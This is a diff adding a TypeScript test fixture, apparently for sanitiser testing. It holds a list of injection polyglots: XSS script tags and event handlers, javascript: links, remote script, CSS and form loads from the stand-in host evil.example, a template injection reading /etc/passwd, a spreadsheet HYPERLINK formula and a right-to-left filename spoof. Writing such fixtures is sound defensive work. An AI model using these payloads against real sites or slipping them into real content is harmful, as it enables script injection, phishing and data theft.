@@ -1,0 +1,33 @@
+// Texts that try to become markup, script, style, a link or a trick of the eye, wherever a page might put them.
+
+/** Every one calls `pwned` or fetches `evil.example` if anything runs or loads it. */
+export const POLYGLOTS: readonly string[] = [
+  `<script>pwned(1)</script>`,
+  `"><script>pwned(2)</script>`,
+  `'><img src=x onerror=pwned(3)>`,
+  `<img src="https://evil.example/a.png">`,
+  `<svg onload=pwned(4)><use href="https://evil.example/b.svg#x"/></svg>`,
+  `<svg><script href="https://evil.example/c.js"/></svg>`,
+  `<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>`,
+  `<style>@import url(https://evil.example/d.css);body{background:url(https://evil.example/e)}</style>`,
+  `</style><script>pwned(6)</script>`,
+  `</title><script>pwned(7)</script>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/f">`,
+  `<base href="https://evil.example/"><link rel="prefetch" href="g"><link rel="stylesheet" href="h">`,
+  `<form action="https://evil.example/i"><button autofocus onfocus=pwned(8)>x</button></form>`,
+  `<details open ontoggle=pwned(9)>`,
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned(10)//'>`,
+  `{{ range.constructor("return pwned(11)")() }}{% include "/etc/passwd" %}{# x #}`,
+  ['`$', '{pwned(12)}`'].join(''),
+  `" onmouseover="pwned(13)" style="position:fixed;inset:0;background:url(https://evil.example/j)`,
+  `' autofocus onfocus='pwned(14)`,
+  `;}*{background:url(https://evil.example/k)}/*`,
+  `&lt;script&gt;pwned(15)&lt;/script&gt;&#x3c;script&#x3e;`,
+  `<![CDATA[<script>pwned(16)</script>]]><!--<script>pwned(17)</script>-->`,
+  `=HYPERLINK("https://evil.example/l","x")`,
+  `[x](javascript:pwned(18)) ![y](https://evil.example/m)`,
+  `\u202egpj.exe\u202c \u2066isolate \u0000nul \u001b[31mansi \u2028line\u2029`,
+  `שלום עולם (נבדק) ABC 123 مرحبا بالعالم`,
+  `${'W'.repeat(3000)}`,
+  `x\ty\nz  two  spaces`,
+];
